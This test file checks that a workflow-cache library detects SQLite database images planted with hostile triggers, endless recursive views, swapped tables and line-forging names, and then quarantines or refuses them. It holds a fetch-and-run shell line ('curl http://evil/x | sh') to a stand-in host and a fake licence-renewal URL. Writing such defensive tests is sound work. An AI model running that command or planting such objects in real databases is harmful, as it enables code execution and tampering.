// A database file is trusted only after it is verified. Someone who can write the database file
// (a shared bucket, an import in the playground) plants SQL objects in an image that otherwise
// is ours: triggers that rewrite what is served or never end, a view in place of a table,
// columns missing or added. The schema must be exactly ours for its version, or the image is
// moved aside and rebuilt (open) or refused (openSaved); never run, never a hang, never a raw
// SQLite message.
import { spawn } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { IDBFactory } from 'fake-indexeddb';
import { createStore, get, set } from 'idb-keyval';
import initSqlJs from 'sql.js';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import {
  DatabaseContentError,
  IndexedDBStorage,
  MemorySource,
  StorageError,
  UnusableDatabaseWarning,
  WorkflowCache,
} from '../../src/index.node.js';
import { APPLICATION_ID, indexes, migrations } from '../../src/db/schema.js';
import { leftovers, markedWorkflow, openCache, tempFolder, warnings } from './helpers.js';
import { openPlantedPath } from './setup/saver-path.js';

const evil = 'curl http://evil/x | sh';
const saved = { 'f.toml': markedWorkflow('task', 'saved', 3) };
/** What the workflow file holds when the planted database is opened: it is loaded anew, so an insert trigger would fire. */
const fresh = { 'f.toml': markedWorkflow('task', 'fresh', 3) };

/** A view over a recursive query that never ends: reading it hangs whoever reads it. */
const forever = 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r';

/** Our `CREATE TABLE workflow_phases` with `column` added before its primary key. */
function phasesTableWith(column: string): string {
  const table = /CREATE TABLE workflow_phases \([\s\S]*?\n\s*\);/.exec(migrations[0].sql)![0];
  return table.replace('PRIMARY KEY (file_path, task)', `${column}\n        PRIMARY KEY (file_path, task)`);
}

/** A database file written by the cache itself, with one replaced version in its history. */
async function savedDatabase(): Promise<{ folder: string; database: string }> {
  const folder = await tempFolder();
  const database = join(folder, 'workflows.db');
  const source = new MemorySource({ 'f.toml': markedWorkflow('task', 'first', 3) });
  const cache = await WorkflowCache.open({ workflows: source, storage: database });
  source.set('f.toml', saved['f.toml']);
  await cache.refresh();
  await cache.close();
  return { folder, database };
}

/** `image` with `sql` run on it by SQLite itself. */
async function planted(image: Uint8Array, sql: string): Promise<Uint8Array> {
  const SQL = await initSqlJs();
  const db = new SQL.Database(image);
  try {
    db.exec(sql);
    return db.export();
  } finally {
    db.close();
  }
}

/** A saved database file with `sql` planted in it; resolves with its path and its bytes. */
async function plantedDatabase(sql: string): Promise<{ folder: string; database: string; bytes: Uint8Array }> {
  const { folder, database } = await savedDatabase();
  const bytes = await planted(await readFile(database), sql);
  await writeFile(database, bytes);
  return { folder, database, bytes };
}

interface Attack {
  what: string;
  sql: string;
  /** What the warning or error must name. */
  reason: RegExp;
}

const attacks: Attack[] = [
  {
    what: 'an AFTER INSERT trigger that rewrites the templates served',
    sql: `CREATE TRIGGER evil_rewrite AFTER INSERT ON workflow_phases BEGIN
            UPDATE workflow_phases SET template = '${evil}' WHERE rowid = new.rowid; END`,
    reason: /unexpected trigger evil_rewrite/,
  },
  {
    what: 'a RAISE trigger whose text would pass for our error',
    sql: `CREATE TRIGGER evil_raise BEFORE INSERT ON workflow_phases BEGIN
            SELECT RAISE(ABORT, 'workflow-cache: licence expired, renew at http://evil/renew'); END`,
    reason: /unexpected trigger evil_raise/,
  },
  {
    what: 'a view over a query that never ends',
    sql: `CREATE VIEW evil_forever AS ${forever}`,
    reason: /unexpected view evil_forever/,
  },
  { what: 'a missing column', sql: 'ALTER TABLE workflow_phases DROP COLUMN template', reason: /table workflow_phases defined differently/ },
  {
    what: 'an extra NOT NULL column',
    sql: `DROP TABLE workflow_phases; ${phasesTableWith('evil TEXT NOT NULL,')} ${indexes}`,
    reason: /table workflow_phases defined differently/,
  },
  {
    what: 'a view in place of a table',
    sql: `DROP TABLE workflow_files; CREATE VIEW workflow_files AS SELECT 'f.toml' AS file_path, 'x' AS file_hash,
            NULL AS loaded_at, NULL AS last_modified, NULL AS size, NULL AS mtime_ms, NULL AS checked_at_ms`,
    reason: /view workflow_files in place of the table/,
  },
  { what: 'an extra index', sql: 'CREATE INDEX evil_index ON workflow_phases (template)', reason: /unexpected index evil_index/ },
  { what: 'an extra table', sql: 'CREATE TABLE evil_notes (note TEXT)', reason: /unexpected table evil_notes/ },
  { what: 'SQLite statistics that steer the query planner', sql: 'ANALYZE', reason: /unexpected table sqlite_stat1/ },
];

describe.each(attacks)('a database with $what', ({ sql, reason }) => {
  test('is moved aside unchanged and the cache rebuilt, with a warning naming what was wrong', async () => {
    const { folder, database, bytes } = await plantedDatabase(sql);
    const { list, onWarning } = warnings();
    const cache = await openCache({ workflows: new MemorySource(fresh), storage: database, onWarning });

    expect(list.map((w) => w.name)).toEqual(['UnusableDatabaseWarning']);
    const warning = list[0] as UnusableDatabaseWarning;
    expect(warning.reason).toMatch(reason);
    expect(warning.message).toContain(database);
    expect(new Uint8Array(await readFile(warning.movedTo!))).toEqual(bytes);
    expect(cache.phases().map((p) => p.template)).toEqual(['fresh', 'fresh', 'fresh']);
    expect(cache.stats().historyVersions, 'nothing of the planted image is kept').toBe(0);

    await cache.close();
    expect(await leftovers(folder, 'workflows.db')).toEqual([warning.movedTo!.slice(folder.length + 1)]);
    const again = warnings();
    await (await openCache({ workflows: new MemorySource(fresh), storage: database, onWarning: again.onWarning })).close();
    expect(again.list, 'the rebuilt database opens cleanly').toEqual([]);
  });

  test('is refused by openSaved with an error of ours naming what was wrong, and left as it is', async () => {
    const { folder, database, bytes } = await plantedDatabase(sql);
    const error = await WorkflowCache.openSaved({ storage: database }).then(() => undefined, (e: unknown) => e as Error);

    expect(error).toBeInstanceOf(StorageError);
    expect(error?.message).toMatch(reason);
    expect(error?.message).toMatch(new RegExp(`^${database} is a workflow-cache database whose schema differs from workflow-cache's own`));
    expect(error?.message).toContain('it was left as it is');
    expect(new Uint8Array(await readFile(database))).toEqual(bytes);
    expect(await leftovers(folder, 'workflows.db')).toEqual([]);
  });
});

test('the reason lists every planted object, with names that cannot forge a line', async () => {
  const { database } = await plantedDatabase(`
    CREATE TABLE "evil
files: 999 loaded" (x);
    CREATE TRIGGER evil_one AFTER DELETE ON workflow_files BEGIN SELECT 1; END;
    CREATE TRIGGER evil_two AFTER DELETE ON workflow_files BEGIN SELECT 1; END;`);
  const error = await WorkflowCache.openSaved({ storage: database }).then(() => undefined, (e: unknown) => e as Error);
  expect(error?.message).toContain('unexpected table "evil\\nfiles: 999 loaded"');
  expect(error?.message).toContain('unexpected trigger evil_one; unexpected trigger evil_two');
  expect(error?.message).not.toContain('\n');
});

describe('a planted statement that never ends', () => {
  /** Runs the planted-database child on `database`; rejects when it has not answered in 30 s. */
  function child(mode: 'open' | 'saved', database: string): Promise<Record<string, unknown>> {
    return new Promise((resolve, reject) => {
      const run = spawn(process.execPath, [openPlantedPath, mode, database, fresh['f.toml']], { stdio: ['ignore', 'pipe', 'inherit'] });
      let out = '';
      run.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
      const timer = setTimeout(() => {
        run.kill('SIGKILL');
        reject(new Error(`${mode} of the planted database did not finish in 30 s`));
      }, 30_000);
      run.on('exit', () => {
        clearTimeout(timer);
        if (out) resolve(JSON.parse(out) as Record<string, unknown>);
      });
    });
  }

  const hangs = [
    {
      what: 'in a trigger on every phase written',
      sql: `CREATE VIEW evil_forever AS ${forever};
            CREATE TRIGGER evil_hang AFTER INSERT ON workflow_phases BEGIN SELECT count(*) FROM evil_forever; END`,
      reason: 'unexpected trigger evil_hang',
    },
    {
      what: 'in a view in place of the history table',
      sql: `DROP TABLE workflow_history; CREATE VIEW workflow_history AS
              SELECT n AS id, 'f.toml' AS file_path, '' AS file_hash, NULL AS loaded_at, NULL AS replaced_at, '[]' AS phases
              FROM (${forever})`,
      reason: 'view workflow_history in place of the table',
    },
  ];

  test.each(hangs)('$what: open moves it aside and load, stats and history answer', async ({ sql, reason }) => {
    const { database } = await plantedDatabase(sql);
    const seen = await child('open', database);
    expect(seen).toMatchObject({ template: 'fresh', historyVersions: 0, versions: 1 });
    expect(seen.warnings).toEqual([expect.stringMatching(new RegExp(`^UnusableDatabaseWarning: .*${reason}.*moved to`))]);
  });

  test.each(hangs)('$what: openSaved refuses it at once', async ({ sql, reason }) => {
    const { database } = await plantedDatabase(sql);
    const seen = await child('saved', database);
    expect(seen.error).toEqual({ name: 'StorageError', message: expect.stringContaining(reason) });
  });
});

test('a trigger planted in a database of an older schema version is refused before the migration', async () => {
  const SQL = await initSqlJs();
  const db = new SQL.Database();
  db.exec(migrations.find((m) => m.version === 1)!.sql);
  db.exec(`${indexes}; PRAGMA application_id = ${APPLICATION_ID}; PRAGMA user_version = 1;`);
  db.exec(`CREATE TRIGGER evil_rewrite AFTER INSERT ON workflow_phases BEGIN
             UPDATE workflow_phases SET template = '${evil}' WHERE rowid = new.rowid; END`);
  const folder = await tempFolder();
  const database = join(folder, 'old.db');
  await writeFile(database, db.export());
  db.close();

  const { list, onWarning } = warnings();
  const cache = await openCache({ workflows: new MemorySource(fresh), storage: database, onWarning });
  expect((list[0] as UnusableDatabaseWarning).reason).toMatch(/version 1 .*unexpected trigger evil_rewrite/);
  expect(cache.phases().map((p) => p.template)).toEqual(['fresh', 'fresh', 'fresh']);
});

describe('in IndexedDB', () => {
  const globals = globalThis as { indexedDB?: unknown };
  beforeEach(() => {
    globals.indexedDB = new IDBFactory();
  });
  afterEach(() => {
    delete globals.indexedDB;
  });

  test('a planted trigger is moved aside to its own key unchanged and the cache rebuilt', async () => {
    const store = createStore('workflow-cache-hostile', 'images');
    const source = new MemorySource({ 'f.toml': markedWorkflow('task', 'first', 3) });
    await (await WorkflowCache.open({ workflows: source, storage: new IndexedDBStorage('wf', store) })).close();
    const bytes = await planted((await get('wf', store)) as Uint8Array, attacks[0].sql);
    await set('wf', bytes, store);

    const { list, onWarning } = warnings();
    const cache = await openCache({ workflows: new MemorySource(fresh), storage: new IndexedDBStorage('wf', store), onWarning });
    const warning = list[0] as UnusableDatabaseWarning;
    expect(warning.reason).toMatch(/unexpected trigger evil_rewrite/);
    expect(await get(warning.movedTo!.replace('IndexedDB key ', ''), store)).toEqual(bytes);
    expect(cache.phases().map((p) => p.template)).toEqual(['fresh', 'fresh', 'fresh']);
  });
});

// Saved by this library at each schema version and kept as they were: a migration's SQL, once
// released, is in every database of that version, so editing it (even a comment) would make
// them all unusable. Add a migration instead.
describe('databases that are ours open without a warning', () => {
  /** A copy of a fixture database in a fresh folder. */
  async function fixture(name: string): Promise<string> {
    const database = join(await tempFolder(), 'workflows.db');
    await writeFile(database, await readFile(new URL(`./fixtures/${name}`, import.meta.url)));
    return database;
  }

  test('one saved at the current version', async () => {
    const database = await fixture('saved-at-version-2.sqlite');
    const { list, onWarning } = warnings();
    const cache = await openCache({ workflows: new MemorySource(saved), storage: database, onWarning });
    expect(list).toEqual([]);
    expect(cache.history('f.toml').map((v) => v.phases[0].template)).toEqual(['first', 'saved']);
  });

  test('one built fresh at the current version, saved and opened again', async () => {
    const { database } = await savedDatabase();
    const { list, onWarning } = warnings();
    await (await WorkflowCache.open({ workflows: new MemorySource(fresh), storage: database, onWarning })).close();
    expect(list).toEqual([]);
  });

  test('one saved at schema version 1, migrated, then saved and opened again', async () => {
    const database = await fixture('saved-at-version-1.sqlite');
    for (let open = 1; open <= 2; open++) {
      const { list, onWarning } = warnings();
      const cache = await WorkflowCache.open({ workflows: new MemorySource(open === 1 ? saved : fresh), storage: database, onWarning });
      expect(list, `open ${open}`).toEqual([]);
      await cache.close();
    }
    const reader = await WorkflowCache.openSaved({ storage: database });
    expect(reader.history('f.toml').map((v) => v.phases[0].template)).toEqual(['saved', 'fresh']);
    await reader.close();
  });
});

describe('history kept as JSON that does not read back', () => {
  test.each([
    ['not JSON', "'[{\"task\": '"],
    ['JSON, but not a list of phases', `'{"task": "x"}'`],
  ])('%s: history() throws an error of ours naming the file', async (_, phases) => {
    const { database } = await plantedDatabase(`UPDATE workflow_history SET phases = ${phases}`);
    const cache = await openCache({ workflows: new MemorySource(saved), storage: database });

    const error = (() => {
      try {
        cache.history('f.toml');
      } catch (e) {
        return e as Error;
      }
    })();
    expect(error).toBeInstanceOf(DatabaseContentError);
    expect(error?.message).toMatch(/^the history of f\.toml holds version 1 as something other than a list of phases/);
    expect(cache.get({ type: 'task-1', meta: 'workflow=f.toml' }).template, 'the rest of the cache answers').toBe('saved');
  });
});
